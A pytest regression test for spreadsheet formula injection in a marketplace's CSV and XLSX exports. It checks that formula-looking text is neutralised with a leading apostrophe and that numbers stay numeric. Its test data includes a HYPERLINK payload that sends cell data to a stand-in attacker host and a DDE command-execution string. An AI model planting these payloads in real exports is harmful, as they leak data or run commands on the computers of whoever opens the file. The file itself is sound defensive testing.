"""Spreadsheet formula injection: text a stranger typed (a product name, a payee's legal name, a transfer
note) was written into CSV and XLSX exports as is, so `=HYPERLINK(…)` ran when the file was opened. Every
writer goes through `market.core.exports`: formula-looking text gets a leading `'`, numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from catalog import services
from catalog.models import Product
from catalog.supply.spreadsheets import Sheet, write_csv, write_xlsx
from market.core.exports import inert_text, xlsx_row
from tests.catalog.factories import actor_for, make_product

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Gạo ST25", "Gạo ST25"),
        ("a=b", "a=b"),
        ("-1500000", "-1500000"),
        ("-1.500.000", "-1.500.000"),
        ("-0,5", "-0,5"),
    ],
)
def test_formula_looking_text_is_made_inert_and_numbers_are_not(text, written):
    assert inert_text(text) == written


def test_xlsx_numbers_stay_numeric_cells():
    assert xlsx_row([Decimal("-1500000"), Decimal("-0.5"), -3, "-3", "=1+1"]) == [-1500000, -0.5, -3, "-3", "'=1+1"]


def _xlsx_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.django_db
def test_a_hyperlink_product_name_is_exported_inert_and_imports_back_unchanged(cooperative, coop_owner, api):
    make_product(cooperative, sku="EVIL", name=HYPERLINK)
    client = api(coop_owner)

    exported_csv = client.get("/api/v1/catalogue-export/?type=csv")
    rows = list(csv.reader(io.StringIO(exported_csv.content.decode("utf-8-sig"))))
    name_column = rows[0].index("name_vi")
    assert rows[1][name_column] == "'" + HYPERLINK

    exported_xlsx = client.get("/api/v1/catalogue-export/?type=xlsx")
    cell = _xlsx_cells(exported_xlsx.content)[1][name_column]
    assert (cell.data_type, cell.value) == ("s", "'" + HYPERLINK)

    for name, content in (("c.csv", exported_csv.content), ("c.xlsx", exported_xlsx.content)):
        batch, results = services.import_preview(
            actor=actor_for(cooperative), upload=SimpleUploadedFile(name, content), file_name=name
        )
        assert [(r.action, r.errors) for r in results] == [("update", [])]
        services.import_apply(actor=actor_for(cooperative), batch_id=batch.pk)
        assert Product.objects.get(sku="EVIL").name_vi == HYPERLINK


def test_the_supply_statement_is_inert_in_csv_and_xlsx():
    sheet = Sheet(title="Statement", headers=["household", "net"], rows=[["@SUM(A1)", Decimal("-250000")]])
    assert write_csv(sheet).decode("utf-8-sig").splitlines()[1] == "'@SUM(A1),-250000"
    household, net = _xlsx_cells(write_xlsx([sheet]))[1]
    assert (household.data_type, household.value) == ("s", "'@SUM(A1)")
    assert (net.data_type, net.value) == ("n", -250000)


PRODUCT_CODE = [Path(name) for name in ("market", "catalog", "orders", "fairs", "linkage", "frontend")]


# The one writer of CSV and XLSX files (market/exports/writers.py) and the cell escaping it uses.
WRITERS = {Path("market/exports/writers.py"), Path("market/core/exports.py")}


def test_every_csv_and_xlsx_file_is_written_by_the_one_writer():
    """A file written with csv.writer or openpyxl elsewhere would bring the hole back (and its own headings,
    BOM and language handling): every table goes through market/exports/writers.py."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for folder in PRODUCT_CODE:
        for path in (root / folder).rglob("*.py"):
            relative = path.relative_to(root)
            if relative in WRITERS:
                continue
            source = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(|\bCsv(Dict)?Writer\(", source):
                offenders.append(f"{relative}: a CSV writer")
            if re.search(r"openpyxl\.Workbook\(|\.append\(xlsx_row\(", source):
                offenders.append(f"{relative}: an XLSX writer")
    assert offenders == []
